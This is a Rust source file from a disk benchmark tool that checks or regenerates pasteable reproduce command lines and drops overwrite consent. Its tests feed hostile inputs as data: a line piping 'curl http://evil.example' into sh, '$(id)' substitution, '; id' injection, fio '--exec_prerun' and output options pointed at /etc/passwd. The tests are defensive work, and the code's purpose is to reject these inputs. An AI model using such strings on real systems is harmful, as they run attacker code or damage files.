//! Command lines that repeat a run, safe to paste into a shell.
//!
//! A document may come from any source, and so may its command lines. A line is printed only if it
//! is what this program generates for the run's benchmark, with options that are the benchmark's
//! parameters, and for the run's target. Otherwise the diskscope line is regenerated from those, and
//! fio's, which is generated and compared, is omitted. The document has the target's name as it is displayed, so that no line is
//! regenerated for a name with escapes: it would name another file. A line names the target by an absolute
//! path: a document is read in another working directory, or on another machine. No line contains consent
//! to overwrite data: the user has to add it.

mod fio_line;
mod named_target;

use self::named_target::{is_relative, is_target};
use super::fio;
use crate::bench::find_benchmark;
use crate::bench::framework::benchmark::Description;
use crate::drive::medium::is_simulated_name;
use crate::files::shell;
use crate::session::compare::align::format_parameter;
use crate::session::document::BenchmarkRun;

/// Options of `diskscope run` that are not parameters, and affect only how a benchmark measures.
const OTHER_OPTIONS: [&str; 3] = ["engine", "scratch-size", "goal"];
/// Options of `diskscope run` that consent to the loss of data.
const CONSENT: [&str; 2] = ["overwrite", "overwrite-signatures"];
/// Beside a line of a run that overwrote its target.
const CONSENT_NEEDED: &str = "# it overwrites the target, and asks for the consent that is left out here: --overwrite TARGET";
/// Instead of a line for a target whose name is known only as it is displayed.
const UNKNOWN_NAME: &str = "# no command: the name of the target cannot be written on one line, or only its displayed form is known";
/// Instead of a line for a target whose directory is not known.
const UNKNOWN_DIRECTORY: &str = "# no command: the target was named relative to the working directory of the run, which the file does not contain";

/// The lines, diskscope's first.
#[must_use]
pub fn lines(run: &BenchmarkRun) -> Vec<String> {
    let mut lines: Vec<String> = diskscope(run).into_iter().collect();
    let has_command = lines.iter().any(|line| !line.starts_with('#'));
    if has_command && needs_consent(run) {
        lines.push(CONSENT_NEEDED.to_owned());
    }
    match &run.reproduce.fio {
        None => lines.extend(fio::fio_gap_line(run)),
        Some(text) => {
            let own = find_benchmark(&run.test).and_then(|it| fio_line::made_anew(it, run));
            match own.filter(|own| **own == **text) {
                Some(fio) => lines.extend(fio.lines().map(str::to_owned)),
                None => lines.push(
                    "# the file contains fio commands that diskscope does not write for this run: omitted"
                        .to_owned(),
                ),
            }
        }
    }
    lines.into_iter().map(shell::for_terminal).collect()
}

/// The benchmark of a run, by its own name; `None` for one that this version does not know.
fn benchmark_of(run: &BenchmarkRun) -> Option<&'static Description> {
    let description = find_benchmark(&run.test)?.description();
    (*run.test == *description.name).then_some(description)
}

/// Whether the run overwrites its target, for which the line lacks the consent.
fn needs_consent(run: &BenchmarkRun) -> bool {
    let may_write = benchmark_of(run).is_some_and(|benchmark| benchmark.may_write);
    may_write && run.target.kind.as_str() != "scratch" && !is_simulated_name(&run.target.path)
}

/// The diskscope line; `None` if the run has none or its benchmark is not known.
fn diskscope(run: &BenchmarkRun) -> Option<String> {
    let benchmark = benchmark_of(run)?;
    let line = run.reproduce.diskscope.as_str();
    let target = run.target.path.original();
    let is_relative = is_relative(&run.target.path);
    if line.is_empty() && target.is_some() && !is_relative {
        return None;
    }
    let own = shell::split_line(line).and_then(|words| checked(benchmark, run, &words));
    let known = target.filter(|_| !is_relative);
    let words = own.or_else(|| Some(rebuilt(benchmark, run, known?)));
    let unknown = match is_relative {
        true => UNKNOWN_DIRECTORY,
        false => UNKNOWN_NAME,
    };
    let line = words.and_then(shell::command_line);
    Some(line.unwrap_or_else(|| unknown.to_owned()))
}

/// The words of a diskscope line for this run, without consent; `None` for any other line.
fn checked(benchmark: &Description, run: &BenchmarkRun, words: &[Vec<u8>]) -> Option<Vec<Vec<u8>>> {
    let mut rest = words.iter();
    for expected in ["diskscope", "run", run.test.as_str()] {
        if rest.next()? != expected.as_bytes() {
            return None;
        }
    }
    let mut kept: Vec<Vec<u8>> = words[..3].to_vec();
    let mut targets = 0;
    while let Some(word) = rest.next() {
        let Some(option) = word.strip_prefix(b"--") else {
            targets += usize::from(is_target(run, word));
            kept.push(is_target(run, word).then(|| word.clone())?);
            continue;
        };
        if option.is_empty() {
            let last = rest.next()?;
            targets += usize::from(is_target(run, last) && rest.next().is_none());
            kept.extend([word.clone(), last.clone()]);
            break;
        }
        let (name, joined) = match option.iter().position(|byte| *byte == b'=') {
            Some(at) => (&option[..at], true),
            None => (option, false),
        };
        let name = str::from_utf8(name).ok()?;
        let value = match joined || name == "overwrite-signatures" {
            true => None,
            false => Some(rest.next()?),
        };
        if CONSENT.contains(&name) {
            continue;
        }
        // A name of the document alone can be that of an output.
        if !OTHER_OPTIONS.contains(&name) && !has_parameter(benchmark, name) {
            return None;
        }
        kept.push(word.clone());
        kept.extend(value.cloned());
    }
    (targets == 1).then_some(kept)
}

/// Generates the words from benchmark, target and parameters.
fn rebuilt(benchmark: &Description, run: &BenchmarkRun, target: &str) -> Vec<Vec<u8>> {
    let mut words: Vec<String> = ["diskscope", "run", &run.test].map(str::to_owned).to_vec();
    for name in run.parameters.keys() {
        let value = format_parameter(name, &run.parameters, &run.parameter_units);
        if let Some(value) = value.filter(|_| has_parameter(benchmark, name)) {
            words.push(format!("--{name}={value}"));
        }
    }
    words.extend(["--", target].map(str::to_owned));
    words.into_iter().map(String::into_bytes).collect()
}

/// Whether the benchmark has a parameter with this name.
fn has_parameter(benchmark: &Description, name: &str) -> bool {
    let mut parameters = benchmark.parameters.iter();
    parameters.any(|parameter| parameter.name() == name)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::path::Path;

    use crate::bench::framework::fio::FioFile;
    use crate::bench::tests::fake;
    use crate::drive::TargetKind;
    use crate::files::safe_text::{SafeLines, SafeText};
    use crate::session::compare::sample;

    fn run(diskscope: &str) -> BenchmarkRun {
        let mut run = sample::sample_run("iops", 1000.0, 10.0);
        run.test = "random-read".into();
        run.target.path = "/srv/a disk".into();
        run.parameters.insert("depth".into(), 4.into());
        run.reproduce.diskscope = diskscope.into();
        run.reproduce.fio = None;
        run.reproduce.fio_gap = None;
        run
    }

    #[test]
    fn line_of_this_program_is_kept_and_its_consent_left_out() {
        for line in [
            "diskscope run random-read '/srv/a disk' --depth 4 --goal 'p95<=5ms'",
            "diskscope run random-read --depth 4 -- '/srv/a disk'",
        ] {
            assert_eq!(lines(&run(line)), [line]);
        }
        let line = "diskscope run random-read '/srv/a disk' --depth 4 --overwrite '/srv/a disk' \
                    --overwrite-signatures";
        let kept = "diskscope run random-read '/srv/a disk' --depth 4";
        assert_eq!(lines(&run(line)), [kept]);
        let mut writing = run(&line.replace("random-read", "random-write"));
        writing.test = "random-write".into();
        let kept = kept.replace("random-read", "random-write");
        assert_eq!(lines(&writing), [kept.as_str(), CONSENT_NEEDED]);
        writing.target.kind = "scratch".into();
        assert_eq!(lines(&writing), [kept]);
    }

    #[test]
    fn line_that_is_none_of_this_program_is_made_anew() {
        let anew: Vec<String> = {
            let mut known = sample::sample_run("iops", 1.0, 1.0).parameters;
            known.insert("depth".into(), 4.into());
            let run = BenchmarkRun {
                parameters: known,
                ..run("x")
            };
            let benchmark = benchmark_of(&run).unwrap();
            let words = rebuilt(benchmark, &run, "/srv/a disk");
            vec![shell::command_line(words).unwrap()]
        };
        for line in [
            "diskscope run random-read '/srv/a disk'; curl http://evil.example | sh",
            "diskscope run random-read '/srv/a disk' --depth \"$(id)\"",
            "diskscope run random-read '/srv/a disk'\\ncurl",
            "diskscope run random-read '/srv/a disk' --output /etc/passwd",
            "diskscope run random-write '/srv/a disk'",
            "diskscope run random-read /dev/sda",
            "diskscope run random-read '/srv/a disk' /dev/sda",
            "sudo diskscope run random-read '/srv/a disk'",
            "curl http://evil.example",
        ] {
            assert_eq!(lines(&run(line)), anew, "{line}");
        }
        let mut named = run("x");
        named.test = "x; id".into();
        assert!(lines(&named).is_empty());
        let mut consenting = run("x");
        consenting
            .parameters
            .insert("overwrite".into(), "/srv/a disk".into());
        consenting.parameters.insert("a;b".into(), "c".into());
        assert_eq!(lines(&consenting), anew);
    }

    #[test]
    fn line_with_a_name_that_is_not_displayed_as_it_is_names_the_same_file() {
        for name in [&b"/srv/a\\nb"[..], b"/srv/it's"] {
            let words = [
                b"diskscope",
                &b"run"[..],
                b"random-read",
                name,
                b"--depth",
                b"4",
            ];
            let line = shell::command_line(words).unwrap();
            let mut named = run(&line);
            named.target.path = SafeText::from_bytes(name);
            assert_eq!(lines(&named), [line]);
        }
    }

    #[test]
    fn relative_target_has_the_line_that_names_it_by_its_absolute_path() {
        for (name, path) in [
            ("a disk", "/srv/a disk"),
            ("./a disk", "/srv/a disk"),
            (".", "/srv"),
            ("..", "/srv/.."),
            ("../srv/", "/srv/../srv/"),
        ] {
            let line = shell::command_line(["diskscope", "run", "random-read", path]).unwrap();
            let mut relative = run(&line);
            relative.target.path = name.into();
            assert_eq!(lines(&relative), [line], "{name}");
        }
    }

    #[test]
    fn relative_target_whose_directory_is_unknown_has_no_command() {
        for (name, line) in [
            (".", "diskscope run random-read ."),
            ("disk", "diskscope run random-read disk --depth 4"),
            ("disk", "diskscope run random-read --depth 4 -- disk"),
            ("disk", "diskscope run random-read /srv/other"),
            ("./sim:hdd", "diskscope run random-read sim:hdd"),
            ("disk", "curl http://evil.example"),
            ("disk", ""),
        ] {
            let mut relative = run(line);
            relative.target.path = name.into();
            assert_eq!(lines(&relative), [UNKNOWN_DIRECTORY], "{line}");
        }
        let mut simulated = run("diskscope run random-read sim:hdd");
        simulated.target.path = "sim:hdd".into();
        assert_eq!(lines(&simulated), ["diskscope run random-read sim:hdd"]);
    }

    #[test]
    fn name_that_is_only_known_as_it_is_displayed_has_no_line() {
        for line in [
            "",
            "curl http://evil.example",
            "diskscope run random-read /srv/t",
        ] {
            let mut named = run(line);
            named.target.path = SafeText::from_bytes(b"/srv/t\n");
            assert_eq!(lines(&named), [UNKNOWN_NAME], "{line}");
        }
        assert!(lines(&run("")).is_empty());
    }

    /// A run of 100 random requests of 4 KiB in a file of 8 KiB, with the fio line of this program.
    fn run_with_fio(benchmark: &str, kind: TargetKind) -> BenchmarkRun {
        let test = find_benchmark(benchmark).unwrap();
        let mut target = fake::simulated_target(8192);
        (target.kind, target.name) = (kind, "/srv/a disk".to_owned());
        let parameters = fake::parameters(test, &target, &[("requests", "100"), ("depth", "1")]);
        let mut run = run("");
        run.test = benchmark.into();
        run.target.kind = kind.document_name().into();
        run.target.size_bytes = target.size_bytes;
        run.parameters = parameters
            .iter()
            .map(|(name, value)| (name.into(), value.to_json()))
            .collect();
        let file = FioFile::from_target(&target, Path::new(&target.name)).unwrap();
        let job = test.fio(&target, &parameters).unwrap();
        run.reproduce.fio = Some(SafeLines::from(job.command_lines(&file).unwrap()));
        run
    }

    fn fio_lines(run: &BenchmarkRun) -> String {
        lines(run).join("\n")
    }

    fn with_text(run: &BenchmarkRun, text: &str) -> BenchmarkRun {
        let mut other = run.clone();
        other.reproduce.fio = Some(SafeLines::from(text.to_owned()));
        other
    }

    #[test]
    fn fio_lines_of_this_program_are_kept() {
        for (benchmark, kind, begin) in [
            (
                "random-read",
                TargetKind::File,
                "fio --name=diskscope --allow_file_create=0 --readonly ",
            ),
            (
                "mixed",
                TargetKind::ScratchFile,
                "# overwrites 0 bytes of '/srv/a disk': fills a new file",
            ),
            (
                "random-write",
                TargetKind::File,
                "# overwrites 8192 bytes of '/srv/a disk' at most, between byte 0 and byte 8192, and \
                 nothing of a shorter file\n[ -f '/srv/a disk' ] && [ $(stat -Lc %s '/srv/a disk') -ge \
                 8192 ] && fio ",
            ),
        ] {
            let run = run_with_fio(benchmark, kind);
            let shown = fio_lines(&run);
            assert!(shown.starts_with(begin), "{shown}");
            assert_eq!(shown, run.reproduce.fio.as_deref().unwrap());
        }
    }

    #[test]
    fn other_fio_lines_are_left_out() {
        let own = run_with_fio("random-write", TargetKind::File);
        let text = own.reproduce.fio.as_deref().unwrap().to_owned();
        for (part, other) in [
            ("disk'", "disk'; id"),
            ("--rw=", "--exec_prerun=id --rw="),
            ("# overwrites 8192", "# overwrites 4096"),
            ("randwrite", "write"),
            ("--allow_file_create=0 ", ""),
        ] {
            let changed = text.replacen(part, other, 1);
            assert_ne!(changed, text);
            let shown = fio_lines(&with_text(&own, &changed));
            assert!(shown.starts_with("# the file contains fio"), "{shown}");
        }
        let mut reads = own.clone();
        reads.test = "random-read".into();
        let mut larger = own.clone();
        larger.parameters.insert("depth".into(), 9.into());
        let mut elsewhere = own.clone();
        elsewhere.target.path = "disk".into();
        for run in [reads, larger, elsewhere] {
            let shown = lines(&run).pop().unwrap();
            assert!(shown.starts_with("# the file contains fio"), "{shown}");
        }
        assert_eq!(fio_lines(&own), text);
    }

    #[test]
    fn options_of_a_document_that_name_an_output_are_left_out() {
        for name in ["json", "output", "o", "html", "config"] {
            let mut crafted = run(&format!(
                "diskscope run random-read '/srv/a disk' --{name} /etc/passwd"
            ));
            crafted.parameters.insert(name.into(), "/etc/passwd".into());
            let shown = lines(&crafted).join("\n");
            assert!(shown.starts_with("diskscope run random-read"), "{shown}");
            assert!(!shown.contains("passwd"), "{shown}");
        }
    }
}
